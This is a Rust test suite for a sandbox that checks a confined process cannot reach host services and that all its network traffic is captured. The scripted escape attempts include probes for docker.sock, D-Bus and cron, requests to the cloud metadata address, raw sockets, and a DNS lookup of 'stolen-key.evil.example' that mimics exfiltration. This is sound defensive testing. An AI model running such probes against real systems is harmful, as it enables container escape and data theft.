//! Can the box reach a service of this machine, and does every packet that would leave it land on our sockets?
//!
//! Numbers are those of the attack catalogue (I, and the parts of N that are the box's). Every attack has its twin.
#![expect(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::disallowed_methods,
    reason = "a test may stop, and plays what is outside the box"
)]
mod support;
use bartizan_sandbox::{BoundSocket, Reach, Running, original_destination};
use std::io::{Read, Write};
use std::net::{IpAddr, SocketAddr, TcpListener, UdpSocket};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{UnixDatagram, UnixListener};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};
use support::table::stopped;
use support::{Outcome, Place, drain, run, start};

/// Counts whoever comes to a service outside the box.
fn count_visitors(mut next: impl FnMut() -> bool + Send + 'static) -> Arc<AtomicUsize> {
    let visitors = Arc::new(AtomicUsize::new(0));
    let seen = Arc::clone(&visitors);
    std::thread::spawn(move || {
        while next() {
            seen.fetch_add(1, Ordering::SeqCst);
        }
    });
    visitors
}

/// Answers every captured connection with the address it was meant for, in the manner of the supervisor.
fn echo_destinations(running: &mut Running) {
    for listener in std::mem::take(&mut running.capture.tcp) {
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let destination = original_destination(&stream).unwrap();
                stream.write_all(format!("{destination}\n").as_bytes()).ok();
            }
        });
    }
}

fn serve_dns(running: &mut Running) -> Arc<AtomicUsize> {
    let queries = Arc::new(AtomicUsize::new(0));
    for socket in std::mem::take(&mut running.capture.dns_udp) {
        let queries = Arc::clone(&queries);
        std::thread::spawn(move || {
            let mut query = [0; 512];
            while let Ok((length, from)) = socket.recv_from(&mut query) {
                queries.fetch_add(1, Ordering::SeqCst);
                // The same name back, with one A record 10.9.8.7.
                let mut answer = query[..length].to_vec();
                answer[2..12].copy_from_slice(&[0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]);
                answer.truncate(question_end(&answer));
                answer.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 9, 0, 4, 10, 9, 8, 7]);
                socket.send_to(&answer, from).ok();
            }
        });
    }
    queries
}

fn question_end(message: &[u8]) -> usize {
    let mut at = 12;
    while message[at] != 0 {
        at += usize::from(message[at]) + 1;
    }
    at + 5
}

fn run_served(place: &Place, script: &str) -> (Outcome, usize) {
    let mut running = start(&place.python(script)).unwrap();
    echo_destinations(&mut running);
    let queries = serve_dns(&mut running);
    let outcome = drain(&mut running);
    (outcome, queries.load(Ordering::SeqCst))
}

const CONNECT: &str = "import socket\n\
    def t(host, port, family=socket.AF_INET):\n  \
      s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(5)\n  \
      try: s.connect((host, port)); return s.makefile().readline().strip()\n  \
      except OSError as e: return f'refused {e.strerror}'\n";

for_everyone! {
    fn i01_i02_no_service_socket_of_the_host_is_in_view() {
        let place = Place::new();
        let outcome = place.run(
            "for s in /run/docker.sock /var/run/docker.sock /run/podman/podman.sock /run/containerd/containerd.sock /run/snapd.socket \
             /run/dbus/system_bus_socket /run/user/$(id -u)/bus /tmp/.X11-unix/X0 /run/libvirt/libvirt-sock /run/systemd/private /run/systemd/journal/socket \
             /dev/log /var/spool/cron /var/spool/at ~/.gnupg; do test -e $s && echo SEEN $s; done; ls /run /var 2>&1; find / -type s 2>/dev/null; \
             env | grep -E 'DISPLAY|DBUS|XDG_RUNTIME|SSH_AUTH'; systemd-run true 2>/dev/null && echo RAN; echo x | crontab - 2>/dev/null && echo CRON; true",
        );
        assert_eq!(outcome.stdout, "ls: cannot access '/run': No such file or directory\n/var:\ntmp\n", "{outcome:#?}");
        stopped("I01/I02", "look for docker, podman, D-Bus, X11, gpg, systemd, cron sockets", "view: no /run, no /var but tmp", &outcome.stdout);
    }

    fn i01_a_socket_that_is_bound_in_can_be_used_and_no_other() {
        let place = Place::new();
        let serve = |name: &str, public: bool| {
            let path = place.path(name);
            let listener = UnixListener::bind(&path).unwrap();
            if !public {
                std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
            }
            (path, count_visitors(move || listener.accept().is_ok_and(|(mut stream, _)| stream.write_all(b"welcome\n").is_ok())))
        };
        let ((wanted, welcome), (other, unwelcome)) = (serve("wanted.sock", false), serve("other.sock", true));
        let mut spec = place.python(&format!(
            "import os, socket\n\
             def u(p):\n  s = socket.socket(socket.AF_UNIX)\n  try: s.connect(p); return s.recv(99)\n  except OSError as e: return e.strerror\n\
             print(u('/tmp/api.sock'), u('{}'), u('{}'))\n\
             try: os.unlink('/tmp/api.sock'); print('REMOVED')\n except OSError: pass\n",
            other.display(), wanted.display()
        ).replace("\n except", "\nexcept"));
        spec.sockets.push(BoundSocket { host: wanted, inside: "/tmp/api.sock".into() });
        let outcome = run(&spec).succeeded();
        assert_eq!(outcome.stdout, "b'welcome\\n' No such file or directory No such file or directory\n");
        // The visitor may be gone before the thread that greeted it has counted it.
        let patience = Instant::now() + Duration::from_secs(30);
        while welcome.load(Ordering::SeqCst) == 0 && Instant::now() < patience {
            std::thread::yield_now();
        }
        assert_eq!((welcome.load(Ordering::SeqCst), unwelcome.load(Ordering::SeqCst)), (1, 0));
        stopped("I01", "connect to sockets that were not bound in", "view: absent", &outcome.stdout);
    }

    fn i03_abstract_sockets_of_the_host_are_out_of_reach() {
        let place = Place::new();
        let name = format!("bartizan-abstract-{}", std::process::id());
        let address = std::os::unix::net::SocketAddr::from_abstract_name(&name).unwrap();
        let listener = UnixListener::bind_addr(&address).unwrap();
        let visitors = count_visitors(move || listener.accept().is_ok());
        let outcome = run(&place.python(&format!(
            "import socket\ns = socket.socket(socket.AF_UNIX)\ntry: s.connect('\\0{name}'); print('REACHED')\nexcept OSError as e: print(e.strerror)\n\
             a = socket.socket(socket.AF_UNIX); a.bind('\\0mine'); a.listen()\nb = socket.socket(socket.AF_UNIX); b.connect('\\0mine'); print('own works')"
        )));
        assert_eq!(outcome.stdout, "Connection refused\nown works\n", "{outcome:#?}");
        assert_eq!(visitors.load(Ordering::SeqCst), 0);
        stopped("I03", "connect to an abstract socket of the host", "net namespace; Landlock scope", &outcome.stdout);
    }

    fn i04_datagram_sockets_of_the_host_are_out_of_reach() {
        let place = Place::new();
        let log = UnixDatagram::bind(place.path("log")).unwrap();
        let outcome = run(&place.python(&format!(
            "import socket\ns = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\n\
             for p in ('/dev/log', '/run/systemd/journal/socket', '{}'):\n  try: s.sendto(b'x', p); print('SENT')\n  except OSError as e: print(e.strerror)\n\
             a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.send(b'own'); print(b.recv(9))", place.path("log").display()
        )));
        assert_eq!(outcome.stdout, "No such file or directory\n".repeat(3) + "b'own'\n", "{outcome:#?}");
        log.set_nonblocking(true).unwrap();
        assert!(log.recv(&mut [0; 8]).is_err());
        stopped("I04", "sendto(/dev/log), journal, a host socket", "view: absent", &outcome.stdout);
    }

    fn i06_services_on_the_hosts_loopback_and_addresses_are_out_of_reach() {
        let place = Place::new();
        let listener = TcpListener::bind("0.0.0.0:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let visitors = count_visitors(move || listener.accept().is_ok());
        let script = format!(
            "{CONNECT}print(t('127.0.0.1', {port}), '|', t('0.0.0.0', {port}), '|', t('::1', {port}, socket.AF_INET6), '|', t('localhost', {port}), '|', t('::ffff:127.0.0.1', {port}, socket.AF_INET6))\n\
             print(t('172.17.0.1', {port}), t('192.168.1.1', {port}))\n\
             l = socket.create_server(('127.0.0.1', 8080)); c = socket.create_connection(('localhost', 8080)); l.accept()[0].send(b'own\\n'); print(c.recv(9))\n\
             l = socket.create_server(('', 8081)); c = socket.create_connection(('127.0.0.1', 8081)); l.accept()[0].send(b'all\\n'); print(c.recv(9))"
        );
        let (outcome, _) = run_served(&place, &script);
        let refused = ["refused Connection refused"; 5].join(" | ");
        assert_eq!(
            outcome.stdout,
            format!("{refused}\n172.17.0.1:{port} 192.168.1.1:{port}\nb'own\\n'\nb'all\\n'\n"),
            "{outcome:#?}"
        );
        assert_eq!(visitors.load(Ordering::SeqCst), 0);
        stopped("I06", "connect to 127.0.0.1, 0.0.0.0, ::1, LAN addresses of the host", "net namespace; all captured", &outcome.stdout);
    }

    fn n01_every_connection_lands_here_with_the_address_it_was_meant_for() {
        let place = Place::new();
        let script = format!(
            "{CONNECT}for a in [('1.1.1.1', 443), ('93.184.216.34', 80), ('8.8.8.8', 22), ('169.254.169.254', 80), ('10.0.0.1', 5432), ('255.1.2.3', 65535), ('100.64.0.1', 1)]: print(t(*a))\n\
             for a in [('2606:4700::1111', 443), ('fd00:ec2::254', 80), ('64:ff9b::a9fe:a9fe', 80), ('::ffff:1.2.3.4', 99)]: print(t(*a, socket.AF_INET6))"
        );
        let (outcome, queries) = run_served(&place, &script);
        assert_eq!(
            outcome.stdout,
            "1.1.1.1:443\n93.184.216.34:80\n8.8.8.8:22\n169.254.169.254:80\n10.0.0.1:5432\n255.1.2.3:65535\n100.64.0.1:1\n\
             [2606:4700::1111]:443\n[fd00:ec2::254]:80\n[64:ff9b::a9fe:a9fe]:80\n1.2.3.4:99\n",
            "{outcome:#?}"
        );
        assert_eq!(queries, 0);
        stopped("N01", "connect to 11 addresses and ports", "routes and nf_tables: lands on our listener", &outcome.stdout);
    }

    fn n02_udp_beyond_loopback_fails_at_once_and_raw_packets_cannot_be_made() {
        let place = Place::new();
        let outcome = run(&place.python(
            "import socket, time\nb = time.time()\n\
             for f, a in [(2, ('1.1.1.1', 443)), (2, ('8.8.8.8', 123)), (10, ('2606:4700::1111', 443)), (2, ('255.255.255.255', 9)), (2, ('224.0.0.251', 5353))]:\n  \
               s = socket.socket(f, 2); s.setsockopt(1, 6, 1)\n  try: s.sendto(b'x', a); print('SENT', a)\n  except OSError as e: print(type(e).__name__)\n\
             for p in (1, 17, 255):\n  try: socket.socket(2, 3, p); print('RAW')\n  except OSError: print('no raw')\n\
             print(time.time() - b < 1)\n\
             a = socket.socket(2, 2); a.bind(('127.0.0.1', 9999)); socket.socket(2, 2).sendto(b'own', ('127.0.0.1', 9999)); print(a.recv(9))",
        ));
        assert!(!outcome.stdout.contains("SENT") && !outcome.stdout.contains("RAW"), "{outcome:#?}");
        assert!(outcome.stdout.ends_with("no raw\nno raw\nno raw\nTrue\nb'own'\n"), "{outcome:#?}");
        stopped("N02", "UDP 443, NTP, broadcast, multicast, raw ICMP", "nf_tables drop; seccomp", &outcome.stdout);
    }

    fn n01_a_box_without_network_meets_nobody_and_its_own_servers_answer() {
        let place = Place::new();
        let mut spec = place.python(
            "import socket, threading\n\
             def t(host, port):\n  \
               s = socket.socket(); s.settimeout(5)\n  \
               try: s.connect((host, port)); return 'OUT'\n  \
               except OSError as e: return e.strerror\n\
             for a in [('1.1.1.1', 443), ('169.254.169.254', 80), ('127.0.0.1', 3128), ('127.0.0.1', 1080), ('127.0.0.53', 53), ('8.8.8.8', 53)]: print(t(*a))\n\
             own = socket.socket(); own.bind(('127.0.0.1', 0)); own.listen()\n\
             threading.Thread(target=lambda: own.accept()[0].send(b'own')).start()\n\
             print(socket.create_connection(own.getsockname(), 5).recv(9))",
        );
        spec.network = Reach::Loopback;
        let mut running = start(&spec).unwrap();
        assert!(running.capture.tcp.is_empty() && running.capture.dns_udp.is_empty() && running.capture.dns_tcp.is_empty());
        assert!(running.capture.http_proxy.is_none() && running.capture.socks.is_none());
        let outcome = drain(&mut running).succeeded();
        assert!(!outcome.stdout.contains("OUT") && outcome.stdout.ends_with("b'own'\n"), "{outcome:#?}");
        stopped("N01", "connect, DNS and proxies where there is no network", "no route and no listener", &outcome.stdout);
    }

    fn n03_every_dns_query_lands_here_whomever_it_is_sent_to() {
        let place = Place::new();
        let script = "import socket\nprint(socket.gethostbyname('stolen-key.evil.example'))\n\
             q = b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\1a\\3tld\\0\\0\\1\\0\\1'\n\
             for f, a in [(2, ('127.0.0.53', 53)), (2, ('127.0.0.1', 53)), (2, ('8.8.8.8', 53)), (10, ('2001:4860:4860::8888', 53))]:\n  \
               s = socket.socket(f, 2); s.settimeout(5); s.connect(a); s.send(q); r = s.recv(512); print(r[:2].hex(), r[-4:].hex())\n";
        let (outcome, queries) = run_served(&place, script);
        assert_eq!(outcome.stdout, "10.9.8.7\n".to_owned() + &"1234 0a090807\n".repeat(4), "{outcome:#?}");
        assert!(queries >= 5);
        stopped("N03", "DNS to four servers", "redirect of UDP 53", &outcome.stdout);
    }

    fn n03_dns_over_tcp_lands_here_too() {
        let place = Place::new();
        let mut running = start(&place.python(
            "import socket\nfor a in [('127.0.0.53', 53), ('8.8.4.4', 53)]: s = socket.create_connection(a, 5); s.send(b'\\0\\4ping'); print(s.recv(9))",
        )).unwrap();
        for listener in std::mem::take(&mut running.capture.dns_tcp) {
            std::thread::spawn(move || {
                for mut stream in listener.incoming().flatten() {
                    let mut bytes = [0; 6];
                    stream.read_exact(&mut bytes).unwrap();
                    stream.write_all(&bytes[2..]).unwrap();
                }
            });
        }
        assert_eq!(drain(&mut running).succeeded().stdout, "b'ping'\nb'ping'\n");
    }

    fn explicit_proxies_listen_inside_and_only_inside() {
        let place = Place::new();
        let script = "import socket\nfor p in (3128, 1080): s = socket.create_connection(('127.0.0.1', p), 5); print(s.recv(9))";
        let mut running = start(&place.python(script)).unwrap();
        let proxies = [running.capture.http_proxy.take().unwrap(), running.capture.socks.take().unwrap()];
        for listener in proxies {
            std::thread::spawn(move || listener.accept().unwrap().0.write_all(b"proxy"));
        }
        assert_eq!(drain(&mut running).succeeded().stdout, "b'proxy'\nb'proxy'\n");
        assert!(std::net::TcpStream::connect("127.0.0.1:3128").is_err());
    }

    fn calling_the_capture_port_itself_shows_as_loopback() {
        let place = Place::new();
        let (outcome, _) = run_served(&place, &format!("{CONNECT}print(t('127.0.0.1', 4), t('::1', 4, socket.AF_INET6))"));
        for destination in outcome.stdout.split_whitespace() {
            let destination: SocketAddr = destination.parse().unwrap();
            assert!(destination.ip().is_loopback(), "{outcome:#?}");
        }
    }

    fn ports_of_ours_cannot_be_taken_from_inside() {
        let place = Place::new();
        let outcome = run(&place.python(
            "import socket\nfor t, a in [(1, ('127.0.0.1', 4)), (2, ('127.0.0.53', 53)), (1, ('0.0.0.0', 53)), (1, ('127.0.0.1', 3128)), (1, ('0.0.0.0', 80))]:\n  \
             s = socket.socket(2, t); s.setsockopt(1, 2, 1); s.setsockopt(1, 15, 1)\n  \
             try:\n    s.bind(a)\n    t == 1 and s.listen()\n    print('TAKEN', a)\n  except OSError as e: print('no')\n",
        ));
        assert_eq!(outcome.stdout, "no\n".repeat(5), "{outcome:#?}");
        stopped("N04", "take the capture, DNS and proxy ports", "ports below 1024; already bound", &outcome.stdout);
    }
}

/// Sanity of the helpers: an address outside is none of ours.
#[test]
fn the_host_can_reach_what_the_box_cannot() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    assert!(matches!(address.ip(), IpAddr::V4(ip) if ip.is_loopback()));
    assert!(std::net::TcpStream::connect(address).is_ok());
    assert!(UdpSocket::bind("127.0.0.1:0").is_ok());
}
